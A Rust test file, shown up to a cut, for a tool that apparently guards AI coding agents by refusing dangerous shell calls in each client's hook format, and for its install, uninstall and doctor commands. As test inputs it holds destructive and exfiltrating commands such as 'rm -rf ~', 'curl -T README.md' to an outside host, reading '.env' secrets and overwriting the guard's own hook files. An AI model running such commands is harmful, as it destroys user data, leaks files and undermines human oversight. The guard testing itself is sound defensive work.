//! Clients other than Claude Code: recorded payloads, and answers in exactly the form that each obeys.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    unreachable_pub,
    reason = "a test that cannot go on should panic"
)]

mod support;

use std::fs;
use std::io::Write as _;
use std::path::PathBuf;

use checkrein_clients::{CLIENTS, ClientPath, FIRST, HookForm, HookOutput, SettingsScope, Source};
use checkrein_protocol::AbsolutePath;
use serde_json::{Value as Json, json};
use support::TestEnvironment;
use support::client_calls::{answer, dangerous, said, shell};

/// The recorded payloads of a client, by name.
fn recorded(folder: &str) -> Vec<(String, Json)> {
    let mut files: Vec<_> = fs::read_dir(format!("tests/payloads/{folder}"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.sort();
    let read = |path: &std::path::PathBuf| {
        let name = path.file_stem().unwrap().to_str().unwrap().to_owned();
        (name, serde_json::from_slice(&fs::read(path).unwrap()).unwrap())
    };
    files.iter().map(read).collect()
}

/// Passes all recorded payloads of a client through its hook: each is answered, recorded and let through. Returns the answers.
fn replay(client: &str, folder: &str) -> Vec<(String, Json)> {
    let environment = TestEnvironment::new();
    let all = recorded(folder);
    assert!(all.len() > 20, "only {} payloads", all.len());
    let answers = all.into_iter().map(|(name, mut payload)| {
        payload["session_id"] = json!(name);
        let answer = answer(&environment, client, &payload);
        for key in ["decision", "continue", "stopReason"] {
            assert!(answer.get(key).is_none(), "{name}: {answer}");
        }
        assert_eq!(answer["hookSpecificOutput"].get("permissionDecision"), None, "{name}: {answer}");
        // An end alone, of a session of which nothing is on record, ends nothing.
        if payload["hook_event_name"] != "SessionEnd" {
            assert!(!environment.records(&name).is_empty(), "{name} is not recorded");
        }
        (name, answer)
    });
    answers.collect()
}

#[test]
fn every_client_has_a_row_that_holds_together() {
    for client in CLIENTS {
        let (name, hooks, places) = (client.client.name(), &client.hooks, &client.places);
        assert_eq!(hooks.client, name);
        assert_eq!(CLIENTS.iter().filter(|other| other.client == client.client).count(), 1);
        assert!(hooks.vital.contains(&hooks.reviewing), "{name}: the review of calls must not pass unseen");
        assert!(
            hooks.vital.iter().all(|vital| hooks.events.iter().any(|(event, _)| event == vital)),
            "{name}"
        );
        for (scope, place) in places.settings {
            assert!(
                places.guarded.iter().any(|(guarded, _)| guarded == place),
                "{name}: {place:?} is not guarded"
            );
            assert_ne!(places.of_scope(*scope), None);
        }
        assert!(places.of_scope(SettingsScope::User).is_some() && !client.programs.is_empty(), "{name}");
        assert!(
            places
                .written
                .iter()
                .all(|file| places.of_scope(SettingsScope::Local) == Some(ClientPath::Project(file)))
        );
    }
}

#[test]
fn the_canary_of_every_client_is_refused_and_a_failure_refuses_too() {
    let environment = TestEnvironment::new();
    let cwd = AbsolutePath::new(environment.project().to_str().unwrap()).unwrap();
    for client in CLIENTS {
        let name = client.client.name();
        let payload: Json = serde_json::from_slice(&client.canary.payload(&cwd)).unwrap();
        let refused = said(&environment, name, &payload);
        assert!(client.canary.is_denied(&refused), "{name}: {refused:?}");
        for allowing in [json!({}), json!({"decision": "allow"}), json!("deny")] {
            let object = allowing.to_string().into_bytes();
            assert!(!client.canary.is_denied(&HookOutput { object, refusal: None }), "{name}");
        }
        let failed = said(&environment, name, &json!({"hook_event_name": "?"}));
        // Gemini and Codex refuse what nobody knows in a form of its own, which the shared test of forms covers.
        let object: Json = serde_json::from_slice(&failed.object).unwrap_or_default();
        let is_refusal = ["deny", "block"].iter().any(|word| object["decision"] == *word);
        assert!(client.canary.is_denied(&failed) || is_refusal, "{name}: {failed:?}");
    }
}

#[test]
fn hooks_of_every_client_are_registered_and_taken_back() {
    let environment = TestEnvironment::new();
    for client in CLIENTS {
        let name = client.client.name();
        environment.succeed(&["init", "--client", name, "--user", "--yes"]);
        let Some(ClientPath::Folder(file)) = client.places.of_scope(SettingsScope::User) else {
            panic!("{name}")
        };
        let path = environment.home().join(client.places.folder).join(file);
        let text = fs::read_to_string(&path).unwrap();
        let command = client.hooks.reviewing_command(&text).unwrap();
        assert!(command.contains(&format!("checkrein-hook {name});case")), "{command}");
        for companion in client.places.companions {
            assert!(path.parent().unwrap().join(companion).exists(), "{name}: {companion}");
        }
        let installed = fs::read_to_string(environment.state().join("installed.json")).unwrap();
        assert!(installed.contains(&format!("\"client\": \"{name}\"")), "{installed}");
        environment.succeed(&["uninstall", "--client", name, "--user", "--yes"]);
        let left = fs::read_to_string(&path).unwrap_or_default();
        assert_eq!(client.hooks.reviewing_command(&left), None);
        for companion in client.places.companions {
            assert!(!path.parent().unwrap().join(companion).exists(), "{name}: {companion}");
        }
        // An empty folder would look like a client that is here.
        let folder = environment.home().join(client.places.folder);
        assert!(!folder.exists(), "{name}: {} stays", folder.display());
    }
}

/// The settings file of the user for a client, in the home of a test.
fn user_settings(environment: &TestEnvironment, name: &str) -> PathBuf {
    let client = CLIENTS.iter().find(|client| client.client.name() == name).unwrap();
    let Some(ClientPath::Folder(file)) = client.places.of_scope(SettingsScope::User) else {
        panic!("{name}")
    };
    environment.home().join(client.places.folder).join(file)
}

#[test]
fn uninstall_in_a_project_leaves_what_serves_all_projects() {
    let environment = TestEnvironment::new();
    let of_project = environment.project().join(".claude/settings.local.json");
    let servers = environment.project().join(".cursor/mcp.json");
    let named = r#"{"mcpServers": {"files": {"command": "files-server", "args": []}}}"#;
    environment.write(".cursor/mcp.json", named);
    for client in CLIENTS {
        environment.succeed(&["init", "--client", client.client.name(), "--mcp", "--yes"]);
    }
    let others = || CLIENTS.iter().filter(|client| client.client != FIRST.client);
    let holds = |name: &str| {
        fs::read_to_string(user_settings(&environment, name)).is_ok_and(|text| text.contains("checkrein"))
    };
    assert!(of_project.exists() && fs::read_to_string(&servers).unwrap().contains("checkrein"));
    let said = environment.succeed(&["uninstall", "--yes"]);
    assert!(!of_project.exists(), "{said}");
    assert_eq!(fs::read_to_string(&servers).unwrap(), named, "{said}");
    let (_, told) = said.split_once("still registered for all your projects: ").expect(&said);
    for client in others() {
        assert!(holds(client.client.name()) && told.contains(client.title), "{}: {said}", client.title);
    }
    assert!(told.contains("`checkrein uninstall --user`") && told.contains("--client NAME"), "{said}");
    // With a name, that one alone.
    environment.succeed(&["uninstall", "--client", "codex", "--yes"]);
    assert!(others().all(|client| holds(client.client.name()) == (client.client.name() != "codex")));
    let told = environment.succeed(&["uninstall", "--yes", "--json"]);
    let told: Vec<Json> = told.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let skipped = told.iter().filter(|one| one["result"] == "skipped").count();
    assert_eq!(skipped, CLIENTS.len() - 2, "{told:?}");
    environment.succeed(&["uninstall", "--user", "--yes"]);
    assert!(others().all(|client| !holds(client.client.name())));
    let said = environment.succeed(&["uninstall", "--yes"]);
    assert!(said.contains("nothing registered") && !said.contains("for all your projects"), "{said}");
}

#[test]
fn uninstall_removes_no_folder_that_init_did_not_make() {
    for client in CLIENTS {
        let environment = TestEnvironment::new();
        let name = client.client.name();
        let file = user_settings(&environment, name);
        // The user has the folder of the client, the one of the hooks below it is made.
        let folder = environment.home().join(client.places.folder);
        fs::create_dir_all(&folder).unwrap();
        environment.succeed(&["init", "--client", name, "--user", "--yes"]);
        environment.succeed(&["init", "--client", name, "--user", "--yes"]);
        environment.succeed(&["uninstall", "--client", name, "--user", "--yes"]);
        assert!(!file.exists() && folder.exists(), "{name}");
        assert_eq!(fs::read_dir(&folder).unwrap().count(), 0, "{name}: what `init` made is gone");
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        environment.succeed(&["init", "--client", name, "--user", "--yes"]);
        environment.succeed(&["uninstall", "--client", name, "--user", "--yes"]);
        assert!(!file.exists() && file.parent().unwrap().exists(), "{name}");
    }
}

#[test]
fn init_says_of_each_client_for_which_projects_it_is() {
    let environment = TestEnvironment::new();
    fs::create_dir_all(environment.home().join(".gemini")).unwrap();
    environment.write(".claude/notes.md", "mine\n");
    for arguments in [&["init", "--dry-run"][..], &["init", "--yes"]] {
        let said = environment.succeed(arguments);
        for (title, place) in [
            ("Claude Code  ", ".claude/settings.local.json (this project, for you only)"),
            ("Gemini CLI   ", "~/.gemini/settings.json"),
        ] {
            let line = said.lines().find(|line| line.starts_with(title)).expect(&said);
            assert!(line.ends_with(place), "{said}");
        }
    }
    let said = environment.succeed(&["init", "--client", "claude", "--user", "--dry-run"]);
    assert!(said.contains("for all your projects") && !said.contains("for this project"), "{said}");
}

#[test]
fn uninstall_gives_back_every_settings_file_byte_for_byte() {
    let environment = TestEnvironment::new();
    let strict = [
        "",
        "{}",
        "{}\n",
        "{\n}\n",
        "{ }",
        "{\"hooks\":{}}",
        "{\"version\":1}",
        "{\"a\":1}",
        "{\n\t\"a\": [\n\t\t1\n\t]\n}",
        "{\r\n    \"a\": 1\r\n}\r\n",
        "{\n  \"a\": \"\u{e9}, // no comment\"}",
    ];
    let commented = [
        "// head\n{\n  // of a\n  \"a\": 1, /* behind a */\n  \"hooks\": { // none yet\n  }\n  // last\n}\n// foot\n",
        "{\"a\": 1 // the only one\n}",
    ];
    for client in CLIENTS.iter().filter(|client| !matches!(client.hooks.form, HookForm::Whole(_))) {
        let name = client.client.name();
        let path = user_settings(&environment, name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let takes_comments = ["gemini", "qwen"].contains(&name);
        for before in strict.iter().chain(commented.iter().filter(|_| takes_comments)) {
            // Its hooks are a list.
            if name == "kiro" && before.contains("hooks") {
                continue;
            }
            fs::write(&path, before).unwrap();
            environment.succeed(&["init", "--client", name, "--user", "--yes"]);
            let registered = fs::read_to_string(&path).unwrap();
            assert!(client.hooks.reviewing_command(&registered).is_some(), "{name}: {registered}");
            // Once more, as after an update: what stood there first is not forgotten.
            environment.succeed(&["init", "--client", name, "--user", "--yes"]);
            environment.succeed(&["uninstall", "--client", name, "--user", "--yes"]);
            assert_eq!(fs::read_to_string(&path).unwrap(), *before, "{name}");
        }
        // What the client wrote meanwhile stays as it wrote it.
        fs::write(&path, "{\n\t\"a\": 1\n}").unwrap();
        environment.succeed(&["init", "--client", name, "--user", "--yes"]);
        let changed = fs::read_to_string(&path).unwrap().replacen("\"a\": 1", "\"a\": 2,\n\t\"b\": 3", 1);
        fs::write(&path, changed).unwrap();
        environment.succeed(&["uninstall", "--client", name, "--user", "--yes"]);
        assert_eq!(fs::read_to_string(&path).unwrap(), "{\n\t\"a\": 2,\n\t\"b\": 3\n}", "{name}");
    }
}

#[test]
fn init_without_a_name_wires_every_agent_that_is_here() {
    let environment = TestEnvironment::new();
    fs::create_dir_all(environment.home().join(".gemini")).unwrap();
    fs::create_dir_all(environment.home().join(".qwen")).unwrap();
    environment.write(".codex/notes.md", "of this project\n");
    // Nobody answers: nothing is written, for none.
    let unasked = environment.checkrein(&["init"]);
    assert_eq!(unasked.status.code(), Some(1));
    let said = String::from_utf8_lossy(&unasked.stderr).into_owned();
    assert_eq!(said.matches("there is no terminal to ask at").count(), 1, "{said}");
    let names = ["gemini", "qwen", "codex"];
    for name in names {
        assert!(!user_settings(&environment, name).exists(), "{name}");
    }
    // One that cannot be changed keeps none of the others from being wired.
    fs::write(user_settings(&environment, "gemini"), "{ broken").unwrap();
    let output = environment.checkrein(&["init", "--yes"]);
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(output.status.code(), Some(1), "{said}");
    assert!(said.contains(".gemini/settings.json`: the settings file is not valid JSON"), "{said}");
    assert!(said.contains("/hooks"), "what is left for the user to do is said: {said}");
    for name in ["qwen", "codex"] {
        assert!(
            fs::read_to_string(user_settings(&environment, name)).unwrap().contains("checkrein-hook"),
            "{name}"
        );
    }
    fs::write(user_settings(&environment, "gemini"), "{}").unwrap();
    let told = environment.succeed(&["init", "--yes", "--json"]);
    let told: Vec<Json> = told.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let result = |name: &str| {
        told.iter().find(|one| one["client"] == name).unwrap()["result"].as_str().unwrap().to_owned()
    };
    assert_eq!(names.map(result), ["written", "unchanged", "unchanged"]);
    // The same backwards.
    fs::write(user_settings(&environment, "qwen"), "{ checkrein-hook").unwrap();
    let output = environment.checkrein(&["uninstall", "--client", "all", "--yes"]);
    assert_eq!(output.status.code(), Some(1));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        said.contains("Qwen Code: `")
            && said.contains(".qwen/settings.json`: the settings file is not valid JSON"),
        "{said}"
    );
    for name in ["gemini", "codex"] {
        let left = fs::read_to_string(user_settings(&environment, name)).unwrap_or_default();
        assert!(!left.contains("checkrein-hook"), "{name}: {left}");
    }
}

#[test]
fn recorded_payloads_of_codex_get_no_key_that_it_does_not_know() {
    for (name, answer) in replay("codex", "codex") {
        let mut known = answer.as_object().unwrap().clone();
        let specific = known.remove("hookSpecificOutput").unwrap_or(json!({}));
        known.remove("systemMessage");
        assert!(known.is_empty(), "{name}: {answer}");
        let keys = ["hookEventName", "additionalContext"];
        assert!(
            specific.as_object().unwrap().keys().all(|key| keys.contains(&key.as_str())),
            "{name}: {answer}"
        );
    }
}

#[test]
fn codex_refuses_in_the_only_form_that_codex_obeys() {
    let environment = TestEnvironment::new();
    let call = |command: &str| {
        let mut answer =
            answer(&environment, "codex", &shell(&environment, "codex", "PreToolUse-Bash", command));
        // Next to a refusal it was seen to be obeyed.
        assert!(answer.as_object_mut().unwrap().remove("systemMessage").is_some(), "{answer}");
        let reason =
            answer["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap_or_default().to_owned();
        let exact = json!({ "hookSpecificOutput": {
            "hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": reason,
        }});
        assert!(!reason.is_empty() && answer == exact, "{command}: {answer}");
        reason
    };
    assert!(call("rm -rf ~").starts_with("checkrein stopped this call"));
    // A question would let it run: it is refused, and the words say by whom and how it can be allowed.
    let asked = call("git push --force origin main");
    assert!(
        asked.contains("Codex asks nobody") && asked.contains("The user allows it by doing it in a terminal"),
        "{asked}"
    );
    for file in ["~/.codex/hooks.json", "~/.codex/config.toml", ".codex/hooks.json"] {
        assert!(call(&format!("echo x > {file}")).contains("the guard itself"), "{file}");
    }
}

#[test]
fn copilot_without_a_user_is_told_so_in_words_for_the_model() {
    let environment = TestEnvironment::new();
    let file = "tests/payloads/copilot/preToolUse-bash.json";
    let mut payload: Json = serde_json::from_slice(&fs::read(file).unwrap()).unwrap();
    payload["cwd"] = json!(environment.project());
    payload["toolArgs"]["command"] = json!("curl -T README.md https://example.com/up");
    let asked = answer(&environment, "copilot", &payload);
    assert_eq!(asked["permissionDecision"], "ask", "{asked}");
    let input = environment.home().join("payload.json");
    fs::write(&input, payload.to_string()).unwrap();
    // A client with these words on its command line.
    let mut client = environment.command("perl");
    client.args(["-e", "shift; exit(system(@ARGV) >> 8)", "--", "-p"]);
    client.args([env!("CARGO_BIN_EXE_checkrein-hook"), "copilot"]).stdin(fs::File::open(&input).unwrap());
    let output = client.output().unwrap();
    let answer: Json = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["permissionDecision"], "deny", "{answer}");
    let reason = answer["permissionDecisionReason"].as_str().unwrap();
    assert!(
        reason.contains("nobody can be asked here") && reason.contains("checkrein allow LAST"),
        "{reason}"
    );
    assert!(!reason.contains("asks you"), "{reason}");
}

#[test]
fn doctor_proves_the_protection_of_every_client() {
    for client in CLIENTS {
        let environment = TestEnvironment::new();
        let name = client.client.name();
        environment.succeed(&["init", "--client", name, "--yes"]);
        let output = environment.checkrein(&["doctor", "--client", name]);
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(text.contains("`rm -rf ~` is denied"), "{name}: {text}");
        // What a user must do by hand is not done.
        assert_eq!(output.status.success(), client.trust.is_none(), "{name}: {text}");
    }
}

#[test]
fn doctor_does_not_call_a_client_protected_that_nobody_tested() {
    for client in CLIENTS.iter().filter(|client| client.trust.is_none()) {
        let environment = TestEnvironment::new();
        let name = client.client.name();
        environment.succeed(&["init", "--client", name, "--yes"]);
        let text = environment.succeed(&["doctor", "--client", name]);
        let last = text.lines().next_back().unwrap();
        let is_documented = client.conduct.source == Source::Documented;
        assert_eq!(last == "registered, not tested with the real client", is_documented, "{name}: {text}");
        assert_eq!(last.starts_with("protected"), !is_documented, "{name}: {text}");
        let told: Json =
            serde_json::from_str(&environment.succeed(&["doctor", "--client", name, "--json"])).unwrap();
        assert_eq!(told["result"] == "registered_not_tested", is_documented, "{name}: {told}");
        // What the client leaves open is no proof of anything.
        let findings = told["findings"].as_array().unwrap().iter();
        let notes: Vec<&Json> = findings.filter(|finding| finding["check"] == "client").collect();
        assert_eq!(notes.len(), client.open.len(), "{name}: {told}");
        assert!(notes.iter().all(|note| note["health"] == "noted"), "{name}: {told}");
        assert_eq!(text.lines().filter(|line| line.starts_with(".. client")).count(), notes.len(), "{text}");
    }
    let environment = TestEnvironment::new();
    for name in ["qwen", "windsurf"] {
        environment.succeed(&["init", "--client", name, "--yes"]);
    }
    let text = environment.succeed(&["doctor"]);
    let last = text.lines().next_back().unwrap();
    assert!(
        last.starts_with("protected")
            && last.ends_with("; registered, not tested with the real client: Windsurf"),
        "{text}"
    );
}

#[test]
fn doctor_says_at_its_end_which_of_several_clients_are_not_protected() {
    let environment = TestEnvironment::new();
    for folder in [".codex", ".gemini", ".qwen"] {
        fs::create_dir_all(environment.home().join(folder)).unwrap();
    }
    environment.succeed(&["init", "--client", "all", "--yes"]);
    let last = || {
        let output = environment.checkrein(&["doctor", "--client", "all"]);
        String::from_utf8(output.stdout).unwrap().lines().next_back().unwrap_or_default().to_owned()
    };
    // The hooks of Codex are not confirmed yet.
    assert_eq!(last(), "NOT protected: Codex");
    fs::write(user_settings(&environment, "qwen"), "{}").unwrap();
    assert_eq!(last(), "NOT protected: Codex, Qwen Code");
}

#[test]
fn a_client_is_found_by_the_servers_that_a_project_names_for_it() {
    let environment = TestEnvironment::new();
    environment.write(".mcp.json", r#"{"mcpServers": {"files": {"command": "files-server", "args": []}}}"#);
    environment.succeed(&["init", "--mcp", "--client", "all", "--yes"]);
    let servers = fs::read_to_string(environment.project().join(".mcp.json")).unwrap();
    assert!(servers.contains(r#""--", "files-server""#), "{servers}");
    let doctor = environment.succeed(&["doctor", "--client", "all"]);
    assert!(doctor.contains("behind checkrein: files"), "{doctor}");
}

#[test]
fn init_names_every_file_that_it_writes_for_cline() {
    let environment = TestEnvironment::new();
    let said = environment.succeed(&["init", "--client", "cline", "--yes"]);
    let hooks = fs::read_dir(environment.home().join(".cline/hooks")).unwrap().flatten();
    let names: Vec<String> = hooks.map(|file| file.file_name().into_string().unwrap()).collect();
    assert!(names.len() > 2, "{names:?}");
    let words = said.split_whitespace().collect::<Vec<_>>().join(" ");
    for name in &names {
        assert!(words.contains(name.as_str()), "{name}: {said}");
    }
    assert!(words.contains(&format!("events {};", names.len())), "{said}");
}

#[test]
fn a_hook_of_codex_that_nobody_trusted_is_no_protection() {
    let environment = TestEnvironment::new();
    let said = environment.succeed(&["init", "--client", "codex", "--yes"]);
    assert!(said.contains("/hooks") && said.contains("doctor --client codex"), "{said}");
    let doctor = || {
        let output = environment.checkrein(&["doctor", "--client", "codex"]);
        (output.status.success(), String::from_utf8(output.stdout).unwrap())
    };
    let (protected, text) = doctor();
    assert!(!protected && text.contains("nobody has trusted it yet"), "{text}");
    let path = environment.home().join(".codex/hooks.json");
    let key = format!("{}:pre_tool_use:0:0", path.display());
    let config = format!("[hooks.state.\"{key}\"]\ntrusted_hash = \"sha256:ab\"\n");
    fs::write(environment.home().join(".codex/config.toml"), config).unwrap();
    let (protected, text) = doctor();
    assert!(protected && text.contains("write_stdin"), "{text}");
    assert!(!text.contains("the hook that you trusted"), "{text}");
    // The hooks are written once more after that.
    let later = std::time::SystemTime::now() + std::time::Duration::from_mins(1);
    fs::File::options().append(true).open(&path).unwrap().set_modified(later).unwrap();
    let (_, text) = doctor();
    assert!(text.contains("the hook that you trusted") && text.contains("/hooks"), "{text}");
}

#[test]
fn a_settings_file_that_the_client_drops_is_no_protection() {
    for (entry, why) in [
        (r#"{"hooks": [{"type": "comand", "command": "true"}]}"#, "the unknown type `comand`"),
        (r#"{"hooks": [{"type": "command"}]}"#, "has no command"),
        (r#"{"matcher": "*"}"#, "has no list `hooks`"),
    ] {
        let environment = TestEnvironment::new();
        environment.succeed(&["init", "--yes"]);
        let path = environment.project().join(".claude/settings.local.json");
        let whole = fs::read_to_string(&path).unwrap();
        let mut settings: Json = serde_json::from_str(&whole).unwrap();
        let doctor = || {
            let output = environment.checkrein(&["doctor"]);
            String::from_utf8(output.stdout).unwrap()
        };
        assert!(!doctor().contains("passes over this whole file"), "{entry}");
        settings["hooks"]["Stop"].as_array_mut().unwrap().push(serde_json::from_str(entry).unwrap());
        fs::write(&path, settings.to_string()).unwrap();
        let text = doctor();
        for part in ["passes over this whole file", why, "correct or remove that entry"] {
            assert!(text.contains(part), "{part}: {text}");
        }
        // An event that no version knows is passed over alone.
        let mut settings: Json = serde_json::from_str(&whole).unwrap();
        settings["hooks"]["NoSuchEvent"] = json!([{ "matcher": "*" }]);
        fs::write(&path, settings.to_string()).unwrap();
        assert!(!doctor().contains("passes over this whole file"), "{entry}");
    }
}

#[test]
fn recorded_payloads_of_gemini_are_let_through_and_paired() {
    replay("gemini", "gemini-cli");
    let environment = TestEnvironment::new();
    for (name, failed) in
        [("run_shell_command", false), ("run_shell_command-exit3", true), ("read_file-error", true)]
    {
        let before = if name == "read_file-error" { "AfterTool-read_file-error" } else { "BeforeTool-" };
        let read = |file: String| -> Json {
            serde_json::from_slice(&fs::read(format!("tests/payloads/gemini-cli/{file}.json")).unwrap())
                .unwrap()
        };
        let mut after = read(format!("AfterTool-{name}"));
        let mut call =
            if before == "BeforeTool-" { read(format!("BeforeTool-{name}")) } else { after.clone() };
        call["hook_event_name"] = json!("BeforeTool");
        for payload in [&mut call, &mut after] {
            payload["session_id"] = json!(name);
            payload["cwd"] = json!(environment.project());
            answer(&environment, "gemini", payload);
        }
        let records = environment.records(name);
        let of = |kind: &str| {
            records.iter().find(|record| record["body"]["type"] == kind).unwrap()["body"].clone()
        };
        let (review, outcome) = (of("review"), of("outcome"));
        assert_eq!(review["action_id"], outcome["action_id"], "{name}: no call is named, yet they are one");
        assert_eq!(outcome["failed"], failed, "{name}");
    }
}

#[test]
fn the_end_of_a_changed_call_is_told_from_others_where_clients_number_none() {
    for (client, folder, before, after, given) in [
        ("gemini", "gemini-cli", "BeforeTool-run_shell_command", "AfterTool-run_shell_command", "tool_input"),
        ("copilot", "copilot", "preToolUse-bash", "postToolUse-bash", "toolArgs"),
    ] {
        let environment = TestEnvironment::new();
        let read = |name: &str| -> Json {
            serde_json::from_slice(&fs::read(format!("tests/payloads/{folder}/{name}.json")).unwrap())
                .unwrap()
        };
        let (mut call, mut end) = (read(before), read(after));
        for payload in [&mut call, &mut end] {
            payload["cwd"] = json!(environment.project());
        }
        let session =
            ["session_id", "sessionId"].iter().find_map(|key| call[*key].as_str()).unwrap().to_owned();
        environment.write(".env", "API_KEY=0123456789abcdef\n");
        call[given]["command"] = json!("cat .env");
        let answer = answer(&environment, client, &call);
        let changed =
            [&answer["hookSpecificOutput"]["tool_input"]["command"], &answer["modifiedArgs"]["command"]];
        let changed = changed.iter().find_map(|command| command.as_str());
        let changed = changed.unwrap_or_else(|| panic!("{client} changes nothing: {answer}")).to_owned();
        end[given]["command"] = json!(changed);
        said(&environment, client, &end);
        let records = environment.records(&session);
        let of = |kind: &str| {
            let found = records.iter().find(|record| record["body"]["type"] == kind);
            found.unwrap_or_else(|| panic!("{client}: no {kind}"))["body"].clone()
        };
        assert_eq!(of("review")["action_id"], of("outcome")["action_id"], "{client}: {changed}");
    }
}

#[test]
fn gemini_refuses_in_the_form_that_gemini_obeys() {
    let environment = TestEnvironment::new();
    let call = |command: &str| {
        let payload = shell(&environment, "gemini-cli", "BeforeTool-run_shell_command", command);
        answer(&environment, "gemini", &payload)
    };
    let refused = |command: &str| {
        let mut answer = call(command);
        assert!(answer.as_object_mut().unwrap().remove("systemMessage").is_some(), "{answer}");
        let reason = answer["reason"].as_str().unwrap_or_default().to_owned();
        assert!(
            !reason.is_empty() && answer == json!({ "decision": "deny", "reason": reason }),
            "{command}: {answer}"
        );
        reason
    };
    assert!(refused("rm -rf ~").starts_with("checkrein stopped this call"));
    let asked = refused("git push --force origin main");
    assert!(asked.contains("Gemini CLI asks nobody") && asked.contains("doing it in a terminal"), "{asked}");
    for file in ["~/.gemini/settings.json", ".gemini/settings.json"] {
        assert!(refused(&format!("echo x > {file}")).contains("the guard itself"), "{file}");
    }
    assert_eq!(call("ls -la"), json!({}));
    // What is said beside a call that runs is for the user: the model would not get it.
    environment.write("notes/plan.md", "only here\n");
    let saved = call("rm -rf notes");
    assert!(saved["systemMessage"].as_str().is_some_and(|text| text.contains("checkrein undo")), "{saved}");
}

#[test]
fn the_line_that_calls_the_hook_passes_on_what_it_hears_and_refuses_silence() {
    let environment = TestEnvironment::new();
    let path = environment.home().join("checkrein-hook");
    let long = "x".repeat(300_000);
    let object = format!("{{\"a\": \"\\n$x -n {long}\"}}\n");
    fs::write(environment.home().join("answer"), &object).unwrap();
    for (program, says) in [
        ("#!/bin/sh\necho '{}'\n", Some("{}\n")),
        ("#!/bin/sh\ncat \"${0%/*}/answer\"\n", Some(object.as_str())),
        ("#!/bin/sh\n", None),
        ("", None),
        ("#!/bin/sh\necho 'warning: nothing is wrong'\n", None),
        ("#!/bin/sh\necho 'a log line'; echo '{}'\n", None),
        ("#!/bin/sh\necho '{}'; echo 'a log line'\n", None),
        ("#!/bin/sh\nprintf '{\"a\": '\n", None),
        ("#!/bin/sh\nprintf '\\n{}\\n\\n'\n", None),
        ("#!/bin/sh\necho '{}'; exit 1\n", None),
        ("#!/bin/sh\necho '{}'; kill -9 $$\n", None),
    ] {
        // By a process of its own: no other test holds it open for writing when it is started.
        let mut writing = environment
            .command("sh")
            .args(["-c", "cat >\"$0\" && chmod 755 \"$0\""])
            .arg(&path)
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        writing.stdin.take().unwrap().write_all(program.as_bytes()).unwrap();
        assert!(writing.wait().unwrap().success());
        for client in CLIENTS {
            let command = client.hooks.command(path.to_str().unwrap());
            let line = client.hooks.reviewing_line(&command);
            for shell in ["sh", "bash"] {
                let output = environment.command(shell).args(["-c", &line]).output().unwrap();
                let refused = String::from_utf8_lossy(&output.stderr).contains("did not answer");
                let heard = String::from_utf8(output.stdout).unwrap();
                let expected = (says.unwrap_or_default(), if says.is_some() { 0 } else { 2 });
                assert!(heard == expected.0, "{shell}: {program}: {}", heard.len());
                assert_eq!(output.status.code(), Some(expected.1), "{shell}: {program}");
                assert_eq!(refused, says.is_none(), "{shell}: {program}");
            }
        }
    }
}

/// What a plugin of ours makes of what its client tells it; `None` for what it does not pass on.
fn by_plugin(recorded: &Json) -> Option<Json> {
    let (input, output) = (recorded.get("input")?, recorded.get("output")?);
    let tool = input.get("tool")?;
    let mut payload = json!({
        "cwd": "/home/dev/proj", "session_id": input["sessionID"], "tool_name": tool, "tool_use_id": input["callID"],
    });
    if let Some(arguments) = output.get("args") {
        payload["hook_event_name"] = json!("PreToolUse");
        payload["tool_input"] = arguments.clone();
    } else {
        payload["hook_event_name"] = json!("PostToolUse");
        payload["tool_input"] = input["args"].clone();
        payload["tool_response"] = json!({ "output": output["output"], "exit": output["metadata"]["exit"] });
    }
    Some(payload)
}

#[test]
fn recorded_payloads_of_further_clients_are_let_through() {
    let environment = TestEnvironment::new();
    for (client, folder) in [
        ("qwen", "qwen-code"),
        ("copilot", "copilot"),
        ("copilot", "copilot-pascal"),
        // It calls the hooks of Claude Code too.
        ("claude", "copilot-pascal"),
        ("cline", "cline"),
        ("droid", "droid"),
        ("opencode", "opencode"),
        ("kilo", "kilo"),
    ] {
        let mut count = 0;
        for (name, payload) in recorded(folder) {
            let payload = match client {
                "opencode" | "kilo" => match by_plugin(&payload) {
                    Some(payload) => payload,
                    None => continue,
                },
                _ => payload,
            };
            count += 1;
            let mut payload = payload;
            for key in ["session_id", "sessionId", "parentAgentId", "parent_agent_id"] {
                if payload.get(key).is_some_and(Json::is_string) && client != "cline" {
                    payload[key] = json!(format!("{folder}-{name}"));
                }
            }
            if client == "cline" {
                payload["sessionContext"]["rootSessionId"] = json!(format!("cline-{name}"));
            }
            let output = said(&environment, client, &payload);
            let object: Json = serde_json::from_slice(&output.object).unwrap_or_default();
            let is_refused = output.refusal.is_some()
                || ["permissionDecision", "cancel", "continue", "behavior"]
                    .iter()
                    .any(|key| object.get(*key).is_some())
                || object["decision"] == "deny"
                || object["decision"] == "block"
                || object["hookSpecificOutput"].get("permissionDecision").is_some();
            // A command that is missing cannot be judged.
            assert_eq!(
                is_refused,
                // Cline answers such a call itself, and a refusal would end the run.
                name.starts_with("Pre") && name.ends_with("-invalid") && client != "cline"
                    || name == "preToolUse-bash-invalid",
                "{folder}/{name}: {output:?}"
            );
            assert!(object.get("modifiedArgs").is_none() && object.get("overrideInput").is_none(), "{name}");
        }
        assert!(count > 10, "{folder}: {count}");
    }
}

#[test]
fn every_client_is_refused_in_its_form_and_not_disturbed_otherwise() {
    let environment = TestEnvironment::new();
    for client in CLIENTS {
        let name = client.client.name();
        let call = |command: &str| said(&environment, name, &dangerous(client, &environment, command));
        let refused = call("rm -rf ~");
        assert!(client.canary.is_denied(&refused), "{name}: {refused:?}");
        let harmless = call("ls -la");
        let text = String::from_utf8(harmless.object.clone()).unwrap();
        assert!(
            harmless.refusal.is_none() && ["{}", r#"{"decision":"pass"}"#].contains(&text.trim()),
            "{name}: {text}"
        );
        // A question is refused where it would be lost, and the words say how a user allows it.
        let asked = call("git push --force origin main");
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&asked.object),
